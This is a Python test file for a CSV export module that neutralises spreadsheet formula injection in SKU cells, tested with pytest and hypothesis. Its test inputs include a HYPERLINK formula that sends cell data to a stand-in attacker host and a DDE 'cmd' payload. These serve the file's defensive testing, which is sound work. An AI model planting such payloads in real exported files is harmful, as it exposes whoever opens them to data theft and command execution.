"""CSV for spreadsheets: nothing in it is run, and everything can be had back."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from backorders.adapters import csv_cells

_STARTS_FORMULA = set("=+-@\t\r\uff1d\uff0b\uff0d\uff20\u2212")

# More often than not, something that a rule is about.
_TEXTS = st.text(
    st.sampled_from("='\"+-@;,\t\r\n \u200b\ufeff\uff1dA1|") | st.characters(codec="utf-8")
)


def _cells(document: str, separator: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(document, newline=""), delimiter=separator))


def _visible(cell: str) -> str:
    return cell.lstrip(" \n\x0b\x0c\xa0\u200b\ufeff")


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1",
        "\xa0=1",
        "\ufeff=1",
        "\u200b\u200b=1",
        "\uff1d1+1",
        "−1",
        '=HYPERLINK("https://evil.example?"&A1,"click")',
        "=cmd|' /C calc'!A0",
        "-",
        "'=1",
        "''=1",
        "'",
        "A;=1",
        "A\t=1",
        "A\n=1",
        "A; ;'=1",
    ],
)
def test_what_looks_like_a_formula_is_made_text(text: str) -> None:
    """A SKU comes from the seller's shop, and the file is opened by somebody else."""
    cell = csv_cells.cell(text)
    assert cell != text
    assert csv_cells.original(cell) == text


@pytest.mark.parametrize("text", ["", "TEA", "A-1", "1+1=2", "a@b", "it's", "A B", "5;6", "Å"])
def test_what_does_not_is_left_as_it_is(text: str) -> None:
    """Nobody wants apostrophes in their SKUs."""
    assert csv_cells.cell(text) == csv_cells.original(text) == text


@given(st.lists(_TEXTS, min_size=1))
def test_no_cell_starts_a_formula_and_each_can_be_had_back(texts: list[str]) -> None:
    """Read as written, and as a spreadsheet reads it that separates by semicolons."""
    document = csv_cells.table(["header"], [texts])
    (_, row) = _cells(document, ",")
    assert [csv_cells.original(cell) for cell in row] == texts
    for separator in (",", ";", "\t"):
        for cells in _cells(document, separator):
            # How a wrongly split cell ends is nobody's promise; how it begins is ours.
            assert all(_visible(cell)[:1] not in _STARTS_FORMULA for cell in cells if cell)


@given(_TEXTS, _TEXTS)
def test_two_texts_are_two_cells(one: str, other: str) -> None:
    """What came from different SKUs must not look the same."""
    assert (csv_cells.cell(one) == csv_cells.cell(other)) == (one == other)


def test_numbers_stay_numbers() -> None:
    """A correction of stock may be negative; that is no formula."""
    assert csv_cells.table(["sku", "change"], [["A", -3], ["B", 2]]) == (
        "sku,change\r\nA,-3\r\nB,2\r\n"
    )
